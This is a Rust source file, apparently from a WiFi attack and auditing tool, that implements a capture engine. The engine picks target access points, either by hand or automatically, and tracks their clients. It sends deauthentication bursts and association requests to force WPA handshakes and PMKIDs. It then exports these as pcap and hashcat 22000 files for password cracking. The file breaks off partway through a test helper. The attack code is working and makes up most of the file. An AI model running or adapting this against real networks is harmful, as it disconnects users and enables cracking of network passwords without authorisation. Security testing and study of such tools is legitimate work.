use std::collections::HashMap;
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::mpsc::{sync_channel, Receiver, SyncSender};
use std::sync::{Arc, Mutex};

use libwifi::frame::components::{MacAddress, Ssid};
use libwifi::frame::{Frame, MessageType, Pmkid};
use libwifi::{parse_frame, Addresses, FrameKind};

use crate::attack::DeauthScheduler;
use crate::auth::{
    CaptureMask, CapturedPmkid, HandshakeSessionKey, HandshakeStorage, PmkidStorage, SaveOutcome,
    SaveState,
};
use crate::config::CaptureConfig;
use crate::devices::{smooth_rssi, NetworkRecord};
use crate::error::{Error, Result, StoreError};
use crate::exclusion::{AddOutcome, ExclusionEntry, ExclusionList};
use crate::pcap::{handshake_to_pcap, pmkid_to_pcap};
use crate::radio::{Radio, RxInfo};
use crate::recon::{PacketCallback, ReconService};
use crate::status::MessageLog;
use crate::storage::CaptureStore;
use crate::targets::{targetable, TargetPolicy};
use crate::tx::{build_association_request, SequenceCounter};
use crate::util::clamp_channel;

/// A message 1 from the target this soon after a burst counts as the deauth landing.
const DEAUTH_SUCCESS_WINDOW_MS: u64 = 5_000;

/// One frame copied out of the radio's delivery context.
#[derive(Clone, Debug)]
pub struct CapturedFrame {
    pub kind: FrameKind,
    pub data: Vec<u8>,
    pub rx: RxInfo,
}

/// Bounded single-producer hand-off between the packet callback and the engine's main-loop half.
///
/// `offer` never blocks: a full channel drops the frame and counts it. Only `drain` touches the
/// receiving end.
pub struct FrameRing {
    sender: SyncSender<CapturedFrame>,
    receiver: Mutex<Receiver<CapturedFrame>>,
    queued: AtomicUsize,
    want_beacons: AtomicBool,
    want_data: AtomicBool,
    dropped: AtomicU64,
}

impl FrameRing {
    pub fn new(capacity: usize) -> Self {
        let (sender, receiver) = sync_channel(capacity.max(1));
        FrameRing {
            sender,
            receiver: Mutex::new(receiver),
            queued: AtomicUsize::new(0),
            want_beacons: AtomicBool::new(false),
            want_data: AtomicBool::new(false),
            dropped: AtomicU64::new(0),
        }
    }

    /// Copy a frame in if it is a kind the engine currently cares about.
    pub fn offer(&self, data: &[u8], kind: FrameKind, rx: &RxInfo) -> bool {
        let wanted = match kind {
            FrameKind::Eapol => true,
            FrameKind::Beacon => self.want_beacons.load(Ordering::Relaxed),
            FrameKind::Data => self.want_data.load(Ordering::Relaxed),
            _ => false,
        };
        if !wanted {
            return false;
        }

        let frame = CapturedFrame {
            kind,
            data: data.to_vec(),
            rx: *rx,
        };
        // Counted before the send so a concurrent drain never takes the count below zero.
        self.queued.fetch_add(1, Ordering::AcqRel);
        if self.sender.try_send(frame).is_err() {
            self.queued.fetch_sub(1, Ordering::AcqRel);
            self.dropped.fetch_add(1, Ordering::Relaxed);
            return false;
        }
        true
    }

    fn drain(&self) -> Vec<CapturedFrame> {
        let frames: Vec<CapturedFrame> = match self.receiver.lock() {
            Ok(receiver) => receiver.try_iter().collect(),
            Err(_) => Vec::new(),
        };
        self.queued.fetch_sub(frames.len(), Ordering::AcqRel);
        frames
    }

    fn set_want_beacons(&self, want: bool) {
        self.want_beacons.store(want, Ordering::Relaxed);
    }

    fn set_want_data(&self, want: bool) {
        self.want_data.store(want, Ordering::Relaxed);
    }

    pub fn dropped(&self) -> u64 {
        self.dropped.load(Ordering::Relaxed)
    }

    pub fn len(&self) -> usize {
        self.queued.load(Ordering::Acquire)
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

/// The network currently under attack.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AttackTarget {
    pub bssid: MacAddress,
    pub ssid: Ssid,
    pub channel: u8,
    pub pmf: bool,
    pub selected_at: u64,
}

/// A station seen talking to the target. Only kept while the target is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct ClientRecord {
    pub mac: MacAddress,
    pub rssi: i8,
    pub last_seen: u64,
}

/// Where the automatic attack cycle is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AutoPhase {
    Idle,
    /// Channel held, listening for clients.
    Locking { since: u64 },
    Attacking { since: u64 },
    /// Attack over, channel still held for late messages.
    Waiting { since: u64 },
}

#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct CaptureStats {
    pub frames: u64,
    pub malformed: u64,
    pub ring_dropped: u64,
    pub eapol: u64,
    /// Key frames the handshake store refused.
    pub rejected: u64,
    /// Key frames from stations outside the target.
    pub ignored: u64,
    pub handshakes: u64,
    pub pmkids: u64,
    pub saved: u64,
    pub save_failures: u64,
    pub deauth_successes: u64,
}

/// Read-only view of one stored handshake.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct HandshakeSummary {
    pub ap: MacAddress,
    pub station: MacAddress,
    pub ssid: Ssid,
    pub channel: u8,
    pub mask: CaptureMask,
    pub save_state: SaveState,
}

/// Files for one capture, produced on demand.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CaptureExport {
    pub pcap: Vec<u8>,
    pub hashcat: String,
}

/// Handshake and PMKID capture plus the deauth attack.
///
/// The packet callback only copies frames into a [FrameRing]; everything else happens in
/// [CaptureEngine::update] on the main loop, next to the reconnaissance service it reads from.
pub struct CaptureEngine {
    config: CaptureConfig,
    radio: Arc<dyn Radio>,
    store: Arc<dyn CaptureStore>,
    ring: Arc<FrameRing>,
    handshakes: HandshakeStorage,
    pmkids: PmkidStorage,
    exclusions: ExclusionList,
    policy: TargetPolicy,
    deauth: DeauthScheduler,
    sequence: SequenceCounter,
    target: Option<AttackTarget>,
    clients: Vec<ClientRecord>,
    beacons: HashMap<MacAddress, Vec<u8>>,
    owns_lock: bool,
    phase: AutoPhase,
    deauth_landed: bool,
    stats: CaptureStats,
    log: MessageLog,
}

impl CaptureEngine {
    /// Build the engine and load the exclusion list. A missing or unreadable list starts empty.
    pub fn new(radio: Arc<dyn Radio>, store: Arc<dyn CaptureStore>, config: CaptureConfig) -> Self {
        let mut log = MessageLog::default();
        let exclusions = load_exclusion_list(store.as_ref(), config.exclusion_capacity, &mut log);

        CaptureEngine {
            ring: Arc::new(FrameRing::new(config.frame_ring_capacity)),
            handshakes: HandshakeStorage::new(config.handshake_capacity),
            pmkids: PmkidStorage::new(config.pmkid_capacity),
            policy: TargetPolicy::new(&config),
            deauth: DeauthScheduler::new(
                radio.clone(),
                config.deauth_burst_count,
                config.deauth_interval_ms,
            ),
            sequence: SequenceCounter::default(),
            target: None,
            clients: Vec::new(),
            beacons: HashMap::new(),
            owns_lock: false,
            phase: AutoPhase::Idle,
            deauth_landed: false,
            stats: CaptureStats::default(),
            exclusions,
            config,
            radio,
            store,
            log,
        }
    }

    pub fn set_headless(&mut self, headless: bool) {
        self.log.set_headless(headless);
    }

    /// The closure to register with the reconnaissance service.
    pub fn consumer(&self) -> PacketCallback {
        let ring = self.ring.clone();
        Arc::new(move |data: &[u8], kind: FrameKind, rx: &RxInfo| {
            ring.offer(data, kind, rx);
        })
    }

    /// Register as the service's frame consumer, replacing whoever was there.
    pub fn attach(&self, recon: &mut ReconService) {
        recon.set_packet_callback(Some(self.consumer()));
    }

    pub fn detach(&mut self, recon: &mut ReconService, now: u64) {
        self.clear_target(recon, now);
        recon.set_packet_callback(None);
    }

    pub fn ring(&self) -> Arc<FrameRing> {
        self.ring.clone()
    }

    /// One main-loop tick.
    pub fn update(&mut self, recon: &mut ReconService, now: u64) {
        if !recon.is_running() {
            if self.target.is_some() || self.deauth.is_active() {
                self.log.warning("Reconnaissance stopped, attack state cleared");
                self.clear_target(recon, now);
            }
        } else if let Some(bssid) = self.target.as_ref().map(|t| t.bssid) {
            if !recon.table().contains(&bssid) {
                self.log
                    .warning(format!("Target {} left the table", bssid.to_long_string()));
                self.clear_target(recon, now);
            }
        }

        for frame in self.ring.drain() {
            self.process_frame(recon, frame);
        }
        self.stats.ring_dropped = self.ring.dropped();

        self.attach_beacons();
        self.save_pending(recon, now);

        if self.config.auto_attack {
            self.step_auto(recon, now);
        }
        self.run_deauth(recon, now);

        self.ring.set_want_beacons(self.needs_beacons());
    }

    fn process_frame(&mut self, recon: &mut ReconService, captured: CapturedFrame) {
        let frame = match parse_frame(&captured.data, false) {
            Ok(frame) => frame,
            Err(_) => {
                self.stats.malformed += 1;
                return;
            }
        };
        self.stats.frames += 1;

        match captured.kind {
            FrameKind::Eapol => {
                self.track_client(&frame, &captured.rx);
                self.handle_eapol(recon, &frame, &captured);
            }
            FrameKind::Beacon => self.cache_beacon(&frame, &captured.data),
            FrameKind::Data => self.track_client(&frame, &captured.rx),
            _ => {}
        }
    }

    fn handle_eapol(&mut self, recon: &mut ReconService, frame: &Frame, captured: &CapturedFrame) {
        let (Some(key), Some(header)) = (frame.eapol_key(), frame.data_header()) else {
            return;
        };
        let (Some(ap), Some(station)) = (header.ap_address(), header.station_address()) else {
            return;
        };
        self.stats.eapol += 1;

        // With a target, other pairs only count when they finish something started on another
        // channel. The pair is matched by address; the frame's own channel doesn't matter.
        if let Some(target) = &self.target {
            let started_elsewhere = self
                .handshakes
                .in_flight(&HandshakeSessionKey::new(ap, station))
                .is_some_and(|hs| hs.channel != target.channel);
            if target.bssid != ap && !started_elsewhere {
                self.stats.ignored += 1;
                return;
            }
        }

        let rx = captured.rx;
        if key.determine_key_type() == MessageType::Message1 {
            self.note_message_one(&ap, rx.timestamp);
        }
        if let Some(pmkid) = key.pmkid() {
            self.store_pmkid(recon, ap, station, pmkid, captured);
        }

        match self.handshakes.add_or_update_handshake(
            &ap,
            &station,
            key,
            &captured.data,
            rx.rssi,
            rx.channel,
            rx.timestamp,
        ) {
            Ok(update) => {
                if update.became_exportable {
                    self.stats.handshakes += 1;
                    let ssid = recon.table().get(&ap).map(|n| n.ssid).unwrap_or_default();
                    self.log.priority(format!(
                        "Handshake captured: {} ({} => {}) [{}]",
                        ssid,
                        ap.to_long_string(),
                        station.to_long_string(),
                        update.mask
                    ));
                    recon.mark_handshake(&ap);
                }
                if update.changed {
                    recon.note_incomplete(ap, update.mask, rx.channel, rx.timestamp);
                }
            }
            Err(_) => {
                self.handshakes
                    .discard_empty(&HandshakeSessionKey::new(ap, station));
                self.stats.rejected += 1;
            }
        }
    }

    fn note_message_one(&mut self, ap: &MacAddress, timestamp: u64) {
        if self.deauth_landed {
            return;
        }
        let Some(session) = self.deauth.session() else {
            return;
        };
        let landed = &session.target == ap
            && session
                .last_burst
                .is_some_and(|burst| timestamp >= burst && timestamp - burst <= DEAUTH_SUCCESS_WINDOW_MS);
        if landed {
            self.deauth_landed = true;
            self.stats.deauth_successes += 1;
            self.log.priority(format!(
                "Deauth landed: {} started a new handshake",
                ap.to_long_string()
            ));
        }
    }

    fn store_pmkid(
        &mut self,
        recon: &mut ReconService,
        ap: MacAddress,
        station: MacAddress,
        pmkid: Pmkid,
        captured: &CapturedFrame,
    ) {
        let ssid = recon.table().get(&ap).map(|n| n.ssid).unwrap_or_default();
        let record = CapturedPmkid {
            ap,
            station,
            ssid,
            channel: captured.rx.channel,
            pmkid,
            timestamp: captured.rx.timestamp,
            frame: captured.data.clone(),
            rssi: captured.rx.rssi,
            save_state: SaveState::default(),
            beacon: self.beacons.get(&ap).cloned(),
        };

        match self.pmkids.insert(record) {
            Ok(true) => {
                self.stats.pmkids += 1;
                self.log.priority(format!(
                    "PMKID captured: {} ({})",
                    ssid,
                    ap.to_long_string()
                ));
                recon.mark_handshake(&ap);
            }
            Ok(false) => {}
            Err(reason) => self.log.warning(format!("PMKID dropped: {reason}")),
        }
    }

    fn cache_beacon(&mut self, frame: &Frame, data: &[u8]) {
        let Some(bssid) = frame.bssid().copied() else {
            return;
        };
        if data.len() > self.config.beacon_cache_len || self.beacons.contains_key(&bssid) {
            return;
        }
        if !beacon_wanted(&self.target, &self.handshakes, &self.pmkids, &bssid) {
            return;
        }

        let limit = self.config.handshake_capacity + self.config.pmkid_capacity + 1;
        if self.beacons.len() >= limit {
            let (target, handshakes, pmkids) = (&self.target, &self.handshakes, &self.pmkids);
            self.beacons
                .retain(|cached, _| beacon_wanted(target, handshakes, pmkids, cached));
            if self.beacons.len() >= limit {
                return;
            }
        }
        self.beacons.insert(bssid, data.to_vec());
    }

    fn needs_beacons(&self) -> bool {
        let target_missing = self
            .target
            .as_ref()
            .is_some_and(|t| !self.beacons.contains_key(&t.bssid));
        target_missing
            || self
                .handshakes
                .iter()
                .any(|hs| hs.beacon.is_none() && !self.beacons.contains_key(&hs.ap))
            || self
                .pmkids
                .iter()
                .any(|p| p.beacon.is_none() && !self.beacons.contains_key(&p.ap))
    }

    fn attach_beacons(&mut self) {
        for handshake in self.handshakes.iter_mut().filter(|hs| hs.beacon.is_none()) {
            handshake.beacon = self.beacons.get(&handshake.ap).cloned();
        }
        for pmkid in self.pmkids.iter_mut().filter(|p| p.beacon.is_none()) {
            pmkid.beacon = self.beacons.get(&pmkid.ap).cloned();
        }
    }

    fn track_client(&mut self, frame: &Frame, rx: &RxInfo) {
        let Some(target) = &self.target else {
            return;
        };
        let Some(header) = frame.data_header() else {
            return;
        };
        if header.ap_address() != Some(target.bssid) {
            return;
        }
        let Some(station) = header.station_address() else {
            return;
        };
        if !station.is_real_device() {
            return;
        }
        let from_station = !header.sent_by_ap();

        if let Some(client) = self.clients.iter_mut().find(|c| c.mac == station) {
            if from_station {
                client.rssi = smooth_rssi(client.rssi, rx.rssi);
            }
            client.last_seen = client.last_seen.max(rx.timestamp);
            return;
        }

        let client = ClientRecord {
            mac: station,
            rssi: if from_station { rx.rssi } else { 0 },
            last_seen: rx.timestamp,
        };
        if self.clients.len() >= self.config.max_clients {
            if let Some(oldest) = self
                .clients
                .iter_mut()
                .min_by_key(|c| c.last_seen)
            {
                *oldest = client;
            }
        } else {
            self.clients.push(client);
        }
    }

    fn has_recent_client(&self, recon: &ReconService, bssid: &MacAddress, now: u64) -> bool {
        let window = self.config.client_recent_ms;
        let tracked = self
            .clients
            .iter()
            .any(|c| now.saturating_sub(c.last_seen) <= window);
        let from_table = recon
            .table()
            .get(bssid)
            .is_some_and(|n| n.last_data > 0 && now.saturating_sub(n.last_data) <= window);
        tracked || from_table
    }

    fn save_pending(&mut self, recon: &mut ReconService, now: u64) {
        let backoff = self.config.save_backoff_ms;
        let max_attempts = self.config.max_save_attempts;

        for handshake in self.handshakes.iter_mut() {
            if !handshake.is_exportable() || !handshake.save_state.is_due(now) {
                continue;
            }
            if handshake.ssid.is_hidden() {
                match backfill_ssid(recon, &handshake.ap) {
                    Some(ssid) => handshake.ssid = ssid,
                    None => {
                        recon.request_name(handshake.ap, handshake.channel);
                        continue;
                    }
                }
            }
            let result = self.store.save_handshake(handshake);
            let outcome = handshake
                .save_state
                .record(result.is_ok(), now, &backoff, max_attempts);
            report_save(
                &mut self.log,
                &mut self.stats,
                "Handshake",
                &handshake.ssid,
                &handshake.ap,
                result.err(),
                outcome,
            );
        }

        for pmkid in self.pmkids.iter_mut() {
            if !pmkid.save_state.is_due(now) {
                continue;
            }
            if pmkid.ssid.is_hidden() {
                match backfill_ssid(recon, &pmkid.ap) {
                    Some(ssid) => pmkid.ssid = ssid,
                    None => {
                        recon.request_name(pmkid.ap, pmkid.channel);
                        continue;
                    }
                }
            }
            let result = self.store.save_pmkid(pmkid);
            let outcome = pmkid
                .save_state
                .record(result.is_ok(), now, &backoff, max_attempts);
            report_save(
                &mut self.log,
                &mut self.stats,
                "PMKID",
                &pmkid.ssid,
                &pmkid.ap,
                result.err(),
                outcome,
            );
        }
    }

    fn run_deauth(&mut self, recon: &ReconService, now: u64) {
        let Some(channel) = self.deauth.session().map(|s| s.channel) else {
            return;
        };
        // Frames sent while the radio is elsewhere would hit the wrong network's channel.
        if !recon.is_running() || recon.current_channel() != channel {
            return;
        }
        let window = self.config.client_recent_ms;
        let recent: Vec<MacAddress> = self
            .clients
            .iter()
            .filter(|c| now.saturating_sub(c.last_seen) <= window)
            .map(|c| c.mac)
            .collect();
        self.deauth.tick(now, &recent, &mut self.log);
    }

    // Targeting

    /// Networks that may be picked by index, excluded ones left out.
    pub fn targetable_networks(&self, recon: &ReconService) -> Vec<NetworkRecord> {
        targetable(recon.networks(), &self.exclusions)
    }

    pub fn select_target(
        &mut self,
        recon: &mut ReconService,
        index: usize,
        now: u64,
    ) -> Result<MacAddress> {
        let listing = self.targetable_networks(recon);
        let network = listing.get(index).ok_or_else(|| Error::invalid_index(index))?;
        self.set_target(recon, network, now);
        Ok(network.bssid)
    }

    pub fn select_target_by_address(
        &mut self,
        recon: &mut ReconService,
        bssid: &MacAddress,
        now: u64,
    ) -> Result<()> {
        if self.exclusions.contains(bssid) {
            return Err(Error::invalid_address(bssid));
        }
        let network = recon
            .network(bssid)
            .ok_or_else(|| Error::invalid_address(bssid))?;
        self.set_target(recon, &network, now);
        Ok(())
    }

    fn set_target(&mut self, recon: &mut ReconService, network: &NetworkRecord, now: u64) {
        if self.target.as_ref().is_some_and(|t| t.bssid == network.bssid) {
            return;
        }
        self.release_target(recon, now);

        self.target = Some(AttackTarget {
            bssid: network.bssid,
            ssid: network.ssid,
            channel: network.channel,
            pmf: network.pmf,
            selected_at: now,
        });
        recon.pin_network(Some(network.bssid));
        self.ring.set_want_data(true);
        self.log.status(format!(
            "Target selected: {} ({}) on channel {}",
            network.ssid,
            network.bssid.to_long_string(),
            network.channel
        ));
    }

    /// Drop the target and everything tied to it.
    pub fn clear_target(&mut self, recon: &mut ReconService, now: u64) {
        self.release_target(recon, now);
        self.phase = AutoPhase::Idle;
    }

    fn release_target(&mut self, recon: &mut ReconService, now: u64) {
        self.end_session(recon, now);
        self.release_lock(recon);
        self.clients.clear();
        if self.target.take().is_some() {
            recon.pin_network(None);
        }
        self.ring.set_want_data(false);
    }

    fn hold_channel(&mut self, recon: &mut ReconService, channel: u8) -> Result<()> {
        if self.owns_lock {
            return Ok(());
        }
        match recon.lock_channel(channel) {
            Ok(()) => {
                self.owns_lock = true;
                Ok(())
            }
            Err(Error::AlreadyLocked(locked)) if locked == clamp_channel(channel) => Ok(()),
            Err(error) => Err(error),
        }
    }

    fn release_lock(&mut self, recon: &mut ReconService) {
        if self.owns_lock {
            recon.unlock_channel();
            self.owns_lock = false;
        }
    }

    // Deauth

    /// Lock onto the target's channel and start bursting until stopped or the target changes.
    pub fn start_deauth(&mut self, recon: &mut ReconService, now: u64) -> Result<()> {
        let target = self
            .target
            .clone()
            .ok_or_else(|| Error::InvalidTarget("no target selected".to_string()))?;
        if !recon.table().contains(&target.bssid) {
            self.clear_target(recon, now);
            return Err(Error::invalid_address(&target.bssid));
        }

        self.hold_channel(recon, target.channel)?;
        self.deauth_landed = false;
        self.deauth
            .start(target.bssid, target.channel, target.pmf, now, &mut self.log);
        if self.config.active_pmkid {
            self.probe_pmkid(recon, &target.bssid)?;
        }
        Ok(())
    }

    /// Stop bursting and give the channel back to the scheduler.
    pub fn stop_deauth(&mut self, recon: &mut ReconService, now: u64) {
        self.end_session(recon, now);
        self.release_lock(recon);
    }

    fn end_session(&mut self, recon: &mut ReconService, now: u64) {
        if let Some(session) = self.deauth.stop() {
            recon.note_attack(&session.target, now, self.config.target_cooldown_ms);
            self.log.info(format!(
                "Deauth stopped: {} frames in {} bursts against {}",
                session.frames_sent,
                session.bursts,
                session.target.to_long_string()
            ));
        }
    }

    /// Send one association request to coax a PMKID out of the access point.
    /// Returns false when the radio refused the frame.
    pub fn probe_pmkid(&mut self, recon: &ReconService, bssid: &MacAddress) -> Result<bool> {
        let network = recon
            .table()
            .get(bssid)
            .ok_or_else(|| Error::invalid_address(bssid))?;
        let frame = build_association_request(
            bssid,
            &self.radio.mac_address(),
            network.ssid,
            network.channel,
            self.sequence.next(),
        );
        match self.radio.transmit(&frame) {
            Ok(()) => {
                self.log.info(format!(
                    "Association request sent to {}",
                    bssid.to_long_string()
                ));
                Ok(true)
            }
            Err(error) => {
                self.log.warning(format!("Association request failed: {error}"));
                Ok(false)
            }
        }
    }

    // Automatic cycle

    fn step_auto(&mut self, recon: &mut ReconService, now: u64) {
        if !recon.is_running() {
            return;
        }
        if self.phase != AutoPhase::Idle && self.target.is_none() {
            self.phase = AutoPhase::Idle;
        }

        match self.phase {
            AutoPhase::Idle => {
                let Some(bssid) = self
                    .policy
                    .best(recon.table().iter(), now, &self.exclusions)
                else {
                    return;
                };
                let Some(network) = recon.network(&bssid) else {
                    return;
                };
                self.set_target(recon, &network, now);
                match self.hold_channel(recon, network.channel) {
                    Ok(()) => self.phase = AutoPhase::Locking { since: now },
                    Err(error) => {
                        self.log.warning(format!("Auto attack skipped: {error}"));
                        self.clear_target(recon, now);
                    }
                }
            }
            AutoPhase::Locking { since } => {
                let Some(bssid) = self.target.as_ref().map(|t| t.bssid) else {
                    return;
                };
                let elapsed = now.saturating_sub(since);
                let recent = self.has_recent_client(recon, &bssid, now);

                if !recent && elapsed >= self.config.lock_early_exit_ms {
                    self.log.info(format!(
                        "No clients on {}, moving on",
                        bssid.to_long_string()
                    ));
                    recon.note_attack(&bssid, now, self.config.target_cooldown_ms);
                    self.clear_target(recon, now);
                } else if (recent && elapsed >= self.config.lock_fast_track_ms)
                    || elapsed >= self.config.lock_time_ms
                {
                    match self.start_deauth(recon, now) {
                        Ok(()) => self.phase = AutoPhase::Attacking { since: now },
                        Err(error) => {
                            self.log.warning(format!("Auto attack aborted: {error}"));
                            self.clear_target(recon, now);
                        }
                    }
                }
            }
            AutoPhase::Attacking { since } => {
                let Some(bssid) = self.target.as_ref().map(|t| t.bssid) else {
                    return;
                };
                let captured = self.handshakes.has_exportable_for_ap(&bssid)
                    || self.pmkids.get(&bssid).is_some();
                if captured || now.saturating_sub(since) >= self.config.attack_window_ms {
                    self.end_session(recon, now);
                    self.phase = AutoPhase::Waiting { since: now };
                }
            }
            AutoPhase::Waiting { since } => {
                let Some(bssid) = self.target.as_ref().map(|t| t.bssid) else {
                    return;
                };
                // A started but unanswered exchange earns a longer wait.
                let pending = self.handshakes.iter().any(|hs| {
                    hs.ap == bssid && hs.mask().has_message(1) && !hs.mask().has_message(2)
                });
                let limit = if pending {
                    self.config.wait_ms * 2
                } else {
                    self.config.wait_ms
                };
                if now.saturating_sub(since) >= limit {
                    self.clear_target(recon, now);
                }
            }
        }
    }

    // Exclusions

    /// Never target `bssid` again. Persists the list; dropping the current target if needed.
    pub fn exclude(&mut self, recon: &mut ReconService, bssid: MacAddress, now: u64) -> AddOutcome {
        let name = recon
            .table()
            .get(&bssid)
            .map(|n| n.ssid.to_string())
            .unwrap_or_default();
        let outcome = self.exclusions.add(bssid, &name);
        match outcome {
            AddOutcome::Added => {
                self.log
                    .info(format!("Excluded {} {}", bssid.to_long_string(), name));
                if self.target.as_ref().is_some_and(|t| t.bssid == bssid) {
                    self.clear_target(recon, now);
                }
                self.persist_exclusions();
            }
            AddOutcome::AlreadyPresent => {}
            AddOutcome::Full => self.log.warning("Exclusion list is full"),
        }
        outcome
    }

    pub fn unexclude(&mut self, bssid: &MacAddress) -> bool {
        let removed = self.exclusions.remove(bssid);
        if removed {
            self.log
                .info(format!("{} may be targeted again", bssid.to_long_string()));
            self.persist_exclusions();
        }
        removed
    }

    pub fn reload_exclusions(&mut self) {
        self.exclusions = load_exclusion_list(
            self.store.as_ref(),
            self.config.exclusion_capacity,
            &mut self.log,
        );
    }

    fn persist_exclusions(&mut self) {
        if let Err(error) = self.store.save_exclusions(&self.exclusions.to_text()) {
            self.log
                .warning(format!("Could not save exclusion list: {error}"));
        }
    }

    // Export

    pub fn export_handshake(&self, ap: &MacAddress, station: &MacAddress) -> Result<CaptureExport> {
        let handshake = self
            .handshakes
            .get(&HandshakeSessionKey::new(*ap, *station))
            .ok_or_else(|| Error::invalid_address(station))?;
        let hashcat = handshake
            .to_hashcat_22000_format()
            .ok_or(StoreError::NotExportable)?;
        let pcap = handshake_to_pcap(handshake).map_err(StoreError::from)?;
        Ok(CaptureExport { pcap, hashcat })
    }

    pub fn export_pmkid(&self, ap: &MacAddress) -> Result<CaptureExport> {
        let pmkid = self.pmkids.get(ap).ok_or_else(|| Error::invalid_address(ap))?;
        let pcap = pmkid_to_pcap(pmkid).map_err(StoreError::from)?;
        Ok(CaptureExport {
            pcap,
            hashcat: pmkid.to_hashcat_22000_format(),
        })
    }

    /// Write a handshake now, whatever its save state. Used for explicit user requests, so an
    /// exhausted capture can still be saved.
    pub fn save_handshake_now(&mut self, ap: &MacAddress, station: &MacAddress) -> Result<()> {
        let handshake = self
            .handshakes
            .get_mut(&HandshakeSessionKey::new(*ap, *station))
            .ok_or_else(|| Error::invalid_address(station))?;
        if !handshake.is_exportable() {
            return Err(StoreError::NotExportable.into());
        }
        self.store.save_handshake(handshake)?;
        handshake.save_state = SaveState::Saved;
        self.stats.saved += 1;
        Ok(())
    }

    pub fn clear_captures(&mut self) {
        self.handshakes.clear();
        self.pmkids.clear();
        self.beacons.clear();
    }

    // Queries

    pub fn handshake_count(&self) -> usize {
        self.handshakes.count()
    }

    pub fn exportable_handshake_count(&self) -> usize {
        self.handshakes.exportable_count()
    }

    pub fn pmkid_count(&self) -> usize {
        self.pmkids.count()
    }

    pub fn exclusion_count(&self) -> usize {
        self.exclusions.len()
    }

    pub fn is_excluded(&self, bssid: &MacAddress) -> bool {
        self.exclusions.contains(bssid)
    }

    pub fn exclusion_entries(&self) -> Vec<ExclusionEntry> {
        self.exclusions.iter().cloned().collect()
    }

    pub fn handshakes(&self) -> Vec<HandshakeSummary> {
        self.handshakes
            .iter()
            .map(|hs| HandshakeSummary {
                ap: hs.ap,
                station: hs.station,
                ssid: hs.ssid,
                channel: hs.channel,
                mask: hs.mask(),
                save_state: hs.save_state,
            })
            .collect()
    }

    pub fn save_state(&self, ap: &MacAddress, station: &MacAddress) -> Option<SaveState> {
        self.handshakes
            .get(&HandshakeSessionKey::new(*ap, *station))
            .map(|hs| hs.save_state)
    }

    pub fn pmkid_save_state(&self, ap: &MacAddress) -> Option<SaveState> {
        self.pmkids.get(ap).map(|p| p.save_state)
    }

    pub fn target(&self) -> Option<AttackTarget> {
        self.target.clone()
    }

    pub fn clients(&self) -> Vec<ClientRecord> {
        self.clients.clone()
    }

    pub fn is_deauthing(&self) -> bool {
        self.deauth.is_active()
    }

    /// Frames sent in the running deauth session.
    pub fn deauth_frames(&self) -> u32 {
        self.deauth.session().map_or(0, |s| s.frames_sent)
    }

    pub fn total_deauth_frames(&self) -> u64 {
        self.deauth.total_frames()
    }

    pub fn phase(&self) -> AutoPhase {
        self.phase
    }

    pub fn stats(&self) -> CaptureStats {
        self.stats
    }

    pub fn log(&self) -> &MessageLog {
        &self.log
    }

    pub fn log_mut(&mut self) -> &mut MessageLog {
        &mut self.log
    }
}

fn load_exclusion_list(store: &dyn CaptureStore, capacity: usize, log: &mut MessageLog) -> ExclusionList {
    match store.load_exclusions() {
        Ok(text) => {
            let list = ExclusionList::parse(&text, capacity);
            log.info(format!("Loaded {} excluded networks", list.len()));
            list
        }
        Err(error) => {
            log.info(format!("No exclusion list loaded ({error}), starting empty"));
            ExclusionList::new(capacity)
        }
    }
}

fn beacon_wanted(
    target: &Option<AttackTarget>,
    handshakes: &HandshakeStorage,
    pmkids: &PmkidStorage,
    bssid: &MacAddress,
) -> bool {
    target.as_ref().is_some_and(|t| &t.bssid == bssid)
        || handshakes.iter().any(|hs| &hs.ap == bssid)
        || pmkids.get(bssid).is_some()
}

fn backfill_ssid(recon: &ReconService, bssid: &MacAddress) -> Option<Ssid> {
    recon
        .table()
        .get(bssid)
        .map(|n| n.ssid)
        .filter(|ssid| !ssid.is_hidden())
}

fn report_save(
    log: &mut MessageLog,
    stats: &mut CaptureStats,
    what: &str,
    ssid: &Ssid,
    ap: &MacAddress,
    error: Option<StoreError>,
    outcome: SaveOutcome,
) {
    let reason = error.map(|e| e.to_string()).unwrap_or_default();
    match outcome {
        SaveOutcome::Saved => {
            stats.saved += 1;
            log.priority(format!("{what} saved: {} ({})", ssid, ap.to_long_string()));
        }
        SaveOutcome::Retry { attempts } => {
            stats.save_failures += 1;
            log.warning(format!(
                "{what} save failed for {} (attempt {attempts}): {reason}",
                ap.to_long_string()
            ));
        }
        SaveOutcome::Exhausted => {
            stats.save_failures += 1;
            log.error(format!(
                "{what} for {} not saved, giving up: {reason}",
                ap.to_long_string()
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::ReconConfig;
    use crate::radio::MockRadio;
    use crate::recon::ReconEvent;
    use crate::storage::MemoryStore;
    use libwifi::frame::components::Security;
    use libwifi::frame::{DESCRIPTOR_RSN, EAPOL_LLC_SNAP, KEY_MIC};

    const AP: MacAddress = MacAddress([0xf8, 0x32, 0xe4, 0xad, 0x47, 0xb8]);
    const STA: MacAddress = MacAddress([0xc0, 0xee, 0xfb, 0x4b, 0xcf, 0x3a]);

    fn eapol_frame(ap: &MacAddress, sta: &MacAddress, from_ap: bool, info: u16, counter: u64) -> Vec<u8> {
        let mut frame = vec![0x08, if from_ap { 0x02 } else { 0x01 }, 0, 0];
        if from_ap {
            frame.extend_from_slice(&sta.0);
            frame.extend_from_slice(&ap.0);
        } else {
            frame.extend_from_slice(&ap.0);
            frame.extend_from_slice(&sta.0);
        }
        frame.extend_from_slice(&ap.0);
        frame.extend_from_slice(&[0x10, 0x00]);
        frame.extend_from_slice(&EAPOL_LLC_SNAP);
        frame.extend_from_slice(&[2, 3]);
        frame.extend_from_slice(&95u16.to_be_bytes());
        frame.push(DESCRIPTOR_RSN);
        frame.extend_from_slice(&info.to_be_bytes());
        frame.extend_from_slice(&16u16.to_be_bytes());
        frame.extend_from_slice(&counter.to_be_bytes());
        frame.extend_from_slice(&[if from_ap { 0xab } else { 0xcd }; 32]);
        frame.extend_from_slice(&[0; 32]);
        let mic = if info & KEY_MIC != 0 { 0x5a } else { 0 };
